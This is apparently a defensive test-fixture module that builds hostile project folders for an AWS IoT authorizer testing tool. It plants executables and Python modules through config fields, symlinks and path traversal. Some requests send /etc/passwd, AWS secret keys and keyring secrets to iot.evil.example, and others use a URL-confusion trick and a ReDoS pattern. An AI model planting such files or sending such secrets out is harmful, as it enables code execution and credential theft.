"""Folders of saved requests as an attacker would write them. `canary` is a program that leaves a mark when run."""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

REQUEST = "request: {authorizerName: A, token: t, tokenSignature: c2ln}\n"
LOCAL = "target: {local: authorizers.yaml}\n" + REQUEST


@dataclass(frozen=True, slots=True)
class Outside:
    """The targets of an attack."""

    canary: Path
    """An executable that leaves a mark."""
    port: int
    """The port of a loopback server that counts its connections."""
    elsewhere: Path
    """A folder next to the opened one."""


Writer = Callable[[Path, Outside], str]
"""Writes the other files into the folder and returns the text of `a.yaml`."""


def authorizers(folder: Path, members: str, name: str = "authorizers.yaml") -> str:
    code = folder / "fn"
    code.mkdir(parents=True, exist_ok=True)
    (code / "app.py").write_text("def handler(event, context): return {}\n")
    (folder / name).write_text(f"authorizers:\n  A: {{signingDisabled: true, {members}}}\n")
    return LOCAL


def interpreter(folder: Path, outside: Outside) -> str:
    return authorizers(folder, f"codeUri: fn, handler: app.handler, interpreter: {outside.canary}")


def own_interpreter(folder: Path, outside: Outside) -> str:
    (folder / "evil").symlink_to(outside.canary)
    return authorizers(folder, "codeUri: fn, handler: app.handler, interpreter: ./evil")


def command(folder: Path, outside: Outside) -> str:
    return authorizers(folder, f"command: [{outside.canary}]")


def own_bootstrap(folder: Path, outside: Outside) -> str:
    text = authorizers(folder, "codeUri: fn, runtime: provided.al2023")
    (folder / "fn" / "bootstrap").symlink_to(outside.canary)
    return text


def python_module(folder: Path, outside: Outside) -> str:
    text = authorizers(folder, "codeUri: fn, handler: app.handler")
    (folder / "fn" / "app.py").write_text(f"import os\nos.system({str(outside.canary)!r})\ndef handler(*_): pass\n")
    for name in ("authlens.py", "boto3.py", "sitecustomize.py", "yaml.py"):
        (folder / name).write_text(f"import os\nos.system({str(outside.canary)!r})\n")
    return text


def template(folder: Path, outside: Outside) -> str:
    python_module(folder, outside)
    (folder / "template.yaml").write_text(
        "Resources:\n  F: {Type: 'AWS::Serverless::Function', Properties: "
        "{CodeUri: fn, Handler: app.handler, Runtime: python3.12}}\n"
        "  A: {Type: 'AWS::IoT::Authorizer', Properties: "
        "{AuthorizerName: A, SigningDisabled: true, AuthorizerFunctionArn: !GetAtt F.Arn}}\n"
    )
    (folder / "authlens.yaml").write_text(f"interpreter: {outside.canary}\n")
    return LOCAL.replace("authorizers.yaml", "template.yaml")


def absolute_local(folder: Path, outside: Outside) -> str:
    interpreter(outside.elsewhere, outside)
    return LOCAL.replace("authorizers.yaml", str(outside.elsewhere / "authorizers.yaml"))


def local_above(folder: Path, outside: Outside) -> str:
    interpreter(outside.elsewhere, outside)
    return LOCAL.replace("authorizers.yaml", f"../{outside.elsewhere.name}/authorizers.yaml")


def linked_local(folder: Path, outside: Outside) -> str:
    interpreter(outside.elsewhere, outside)
    (folder / "authorizers.yaml").symlink_to(outside.elsewhere / "authorizers.yaml")
    return LOCAL


def local_pipe(folder: Path, outside: Outside) -> str:
    os.mkfifo(folder / "authorizers.yaml")
    return LOCAL


def foreign_host(folder: Path, outside: Outside) -> str:
    return "target: {endpointUrl: 'http://iot.evil.example', region: eu-west-1}\n" + REQUEST


def look_alike(folder: Path, outside: Outside) -> str:
    url = "https://iot.execute-api.eu-west-1.amazonaws.com"
    return f"target: {{endpointUrl: '{url}', region: eu-west-1}}\n{REQUEST}"


def loopback_host(folder: Path, outside: Outside) -> str:
    return f"target: {{endpointUrl: 'http://127.0.0.1:{outside.port}', region: eu-west-1}}\n{REQUEST}"


def two_faced_url(folder: Path, outside: Outside) -> str:
    url = f"http://iot.evil.example\\@127.0.0.1:{outside.port}"
    return f"target: {{endpointUrl: '{url}', region: eu-west-1}}\n{REQUEST}"


def bucket_as_region(folder: Path, outside: Outside) -> str:
    return "target: {region: s3}\n" + REQUEST


def profile_of_a_program(folder: Path, outside: Outside) -> str:
    return "target: {profile: with-a-program, region: eu-west-1}\n" + REQUEST


def profile_of_a_host(folder: Path, outside: Outside) -> str:
    return "target: {profile: with-a-host}\n" + REQUEST


def references(folder: Path, outside: Outside) -> str:
    os.mkfifo(folder / "pipe")
    token = "${file:/etc/passwd}${file:pipe}${file:/dev/zero}${env:AWS_SECRET_ACCESS_KEY}${keyring:login/root}"
    target = "target: {endpointUrl: 'http://iot.evil.example', region: eu-west-1}\n"
    return f"{target}request: {{authorizerName: A, token: '{token}'}}\nsign: {{key: pipe}}\n"


def patterns(folder: Path, outside: Outside) -> str:
    for number in range(5):
        text = REQUEST + "expect: {principalId: '/(?:a{3000}){3000}/'}\n"
        (folder / f"z{number}.yaml").write_text(text)
    return "target: {profile: with-a-program}\n" + REQUEST


def environment(folder: Path, outside: Outside) -> str:
    (folder / "environments").mkdir()
    (folder / "environments" / "default.yaml").write_text("target: {endpointUrl: 'http://iot.evil.example'}\n")
    interpreter(folder, outside)
    return LOCAL


FOLDERS: tuple[Writer, ...] = (
    *(interpreter, own_interpreter, command, own_bootstrap, python_module, template),
    *(absolute_local, local_above, linked_local, local_pipe),
    *(foreign_host, look_alike, loopback_host, two_faced_url, bucket_as_region),
    *(profile_of_a_program, profile_of_a_host, references, patterns, environment),
)


def names() -> Iterator[str]:
    return (writer.__name__ for writer in FOLDERS)
